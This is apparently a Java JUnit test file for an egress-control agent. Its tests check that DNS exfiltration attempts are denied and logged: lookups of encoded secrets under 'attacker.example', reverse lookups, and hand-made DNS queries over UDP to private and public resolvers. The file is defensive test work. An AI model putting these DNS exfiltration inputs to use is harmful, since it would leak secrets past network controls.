package dev.egress.it.hostile;

import static dev.egress.it.hostile.H.a;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.egress.it.AgentJvm;
import dev.egress.it.Hosts;
import dev.egress.it.UdpReceiver;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Data out through the name service: lookups of attacker names, reverse lookups, hand-rolled DNS
 * over UDP.
 */
class DnsExfiltrationTest {
  @TempDir Path dir;

  static final List<String> SECRETS =
      List.of("mzxw6ytboi", "nbswy3dpeb3w64tmmq", "gezdgnbvgy3tqojq");

  /**
   * Each lookup leaks its name to the attacker's DNS server: denied and recorded although nothing
   * connects.
   */
  @Test
  void lookupsOfEncodedSecretsAreDeniedAndRecordedWithoutAnyConnection() {
    String n0 = SECRETS.get(0) + ".attacker.example";
    String n1 = SECRETS.get(1) + ".attacker.example";
    String n2 = SECRETS.get(2) + ".attacker.example";
    String l0 = a("lookup", n0);
    String l1 = a("lookup", n1.toUpperCase() + ".");
    String isa =
        a("isa", n2, 443); // new InetSocketAddress(name, port): never throws, comes back unresolved
    AgentJvm.Result run = H.runUser(H.jvm(dir), l0, l1, isa);
    assertAll(
        () -> H.denied(run, l0, "UnknownHostException"),
        () -> H.denied(run, l1, "UnknownHostException"),
        () -> assertEquals("unresolved", run.result(isa).detail, run.describe()));
    for (String name : List.of(n0, n1, n2)) {
      JsonNode r = H.record(run, name, "not-allowed", "DNS");
      assertEquals("DNS", r.path("destination_type").asText(), r.toString());
      assertEquals(name, r.path("dns_event").path("domain_name").asText(), r.toString());
      assertEquals(3, r.path("dns_event").path("rcode").asInt(), r.toString());
      assertEquals(53, r.path("port").asInt(), r.toString());
      H.userCaller(r);
    }
  }

  /**
   * Reverse lookups ({@code getHostName()}, {@code getCanonicalHostName()}). Decided behaviour: the
   * PTR query itself is not judged (see THREAT-MODEL.md); the name it returns is confirmed by a
   * forward lookup, which the agent judges: a denied name is never handed to the application (the
   * JDK returns the literal) and the attempt is recorded; an allowed name comes back as usual.
   */
  @Test
  void reverseLookupsOnlyEverConfirmAllowedNames() {
    // A PTR query carries the address to whoever serves its reverse zone (4 bytes of payload per
    // query): it is judged like a connect to that address. Denied, the JDK answers with the
    // literal.
    String evil = a("reverse", "127.0.0.3");
    String forward = a("lookup", Hosts.ALLOWED);
    String allowed = a("reverse", "127.0.0.2");
    AgentJvm.Result run = H.runUser(H.jvm(dir), evil, forward, allowed);
    assertAll(
        () ->
            assertEquals(
                "host=127.0.0.3 canonical=127.0.0.3", run.result(evil).detail, run.describe()),
        // 127.0.0.2 is allowed once this JVM saw allowed.example.com resolve to it.
        () ->
            assertEquals(
                "host=" + Hosts.ALLOWED + " canonical=" + Hosts.ALLOWED,
                run.result(allowed).detail,
                run.describe()),
        () -> H.record(run, "127.0.0.3", "not-allowed", "DNS"));
  }

  /**
   * Lookups under an allowed wildcard reach the wildcard zone's name servers: allowed by the policy
   * itself.
   */
  @Test
  void lookupsUnderAnAllowedWildcardAreAllowedByDesign() {
    String name = SECRETS.get(0) + ".wild.example.org";
    String lookup = a("lookup", name);
    AgentJvm.Result run = H.runUser(H.jvm(dir), lookup);
    assertTrue(!run.result(lookup).denied(), run.describe());
    assertTrue(run.recordsFor(name).isEmpty(), run.describe());
  }

  /**
   * A DNS query datagram to a resolver the policy does not name (loopback stand-in): denied,
   * nothing received.
   */
  @Test
  void handRolledDnsQueryToANonAllowedResolverIsDenied() throws Exception {
    try (UdpReceiver resolver = UdpReceiver.start("127.0.0.3")) {
      String socket = a("udp-dns", "127.0.0.3", resolver.port(), "c2VjcmV0.attacker.example");
      String channel =
          a("udp-dns-channel", "127.0.0.3", resolver.port(), "c2VjcmV0.attacker.example");
      AgentJvm.Result run = H.runUser(H.jvm(dir), socket, channel);
      assertAll(
          () -> H.denied(run, socket, "SocketException"),
          () -> H.denied(run, channel, "SocketException"),
          () ->
              assertEquals(List.of(), resolver.payloads(1, 300), "the query reached the resolver"),
          () -> H.record(run, "127.0.0.3", "not-allowed", "UDP"));
    }
  }

  /**
   * Public resolvers (8.8.8.8, 1.1.1.1, 2001:4860:4860::8888): only in a loopback-only namespace.
   */
  @Test
  void handRolledDnsQueriesToPublicResolversAreDenied() {
    String google = a("udp-dns", "8.8.8.8", 53, "c2VjcmV0.attacker.example");
    String cloudflare = a("udp-dns-channel", "1.1.1.1", 53, "c2VjcmV0.attacker.example");
    String googleV6 = a("udp-dns", "2001:4860:4860::8888", 53, "c2VjcmV0.attacker.example");
    AgentJvm.Result run = H.runUser(H.jvm(dir).loopbackOnlyNetns(), google, cloudflare, googleV6);
    assertAll(
        () -> H.denied(run, google, "SocketException"),
        () -> H.denied(run, cloudflare, "SocketException"),
        () -> H.denied(run, googleV6, "SocketException"),
        () -> {
          JsonNode r = H.record(run, "8.8.8.8", "not-allowed", "UDP");
          assertEquals(53, r.path("port").asInt(), r.toString());
          assertEquals("IP", r.path("destination_type").asText(), r.toString());
        },
        () -> H.record(run, "1.1.1.1", "not-allowed", "UDP"));
  }
}
